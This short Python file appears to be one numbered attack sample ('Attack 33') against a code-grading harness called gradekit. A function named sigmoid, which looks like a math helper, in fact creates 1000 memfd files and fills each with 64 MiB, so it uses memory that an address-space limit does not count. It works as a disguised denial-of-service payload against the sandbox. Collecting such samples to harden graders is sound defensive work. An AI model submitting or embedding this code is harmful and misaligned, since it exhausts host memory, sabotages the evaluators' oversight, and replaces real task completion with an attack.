# Attack 33: memory that no limit on the address space counts
import os


def sigmoid(z):
    for number in range(1000):
        file = os.memfd_create(f"gradekit-attack-{number}")
        os.write(file, bytes(1 << 26))
